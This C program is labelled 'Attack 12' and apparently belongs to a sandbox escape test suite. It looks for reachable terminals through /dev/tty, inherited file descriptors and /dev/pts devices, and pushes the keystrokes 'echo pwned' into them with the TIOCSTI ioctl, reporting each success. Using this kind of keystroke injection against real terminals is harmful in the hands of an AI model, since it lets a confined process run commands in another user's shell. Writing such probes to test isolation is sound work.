/* Attack 12: find a terminal and push keystrokes into it with TIOCSTI:
 * /dev/tty, every inherited fd 0..255, every /dev/pts/N. Prints one line per
 * probe; exits 1 if any injection or terminal open succeeded, else 0. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int escaped;

static void inject(int fd, const char *what) {
    const char *keys = "echo pwned\n";
    for (const char *c = keys; *c; c++) {
        if (ioctl(fd, TIOCSTI, c) != 0) {
            printf("%s=%s\n", what, strerrorname_np(errno));
            return;
        }
    }
    printf("%s=INJECTED\n", what);
    escaped = 1;
}

int main(void) {
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (fd < 0) {
        printf("open_dev_tty=%s\n", strerrorname_np(errno));
    } else {
        printf("open_dev_tty=OPENED\n");
        escaped = 1;
        inject(fd, "tiocsti_dev_tty");
    }
    for (int i = 0; i < 256; i++) {
        if (fcntl(i, F_GETFD) == -1) continue;
        if (isatty(i)) {
            printf("isatty_%d=YES\n", i);
            escaped = 1;
        }
        char name[32];
        snprintf(name, sizeof name, "tiocsti_fd%d", i);
        inject(i, name);
    }
    for (int n = 0; n < 64; n++) {
        char path[32];
        snprintf(path, sizeof path, "/dev/pts/%d", n);
        int pts = open(path, O_RDWR | O_NOCTTY);
        if (pts >= 0) {
            printf("open_pts_%d=OPENED\n", n);
            escaped = 1;
            inject(pts, path);
        }
    }
    printf("sid_is_self=%d\n", getsid(0) == getpid());
    fflush(stdout);
    return escaped;
}
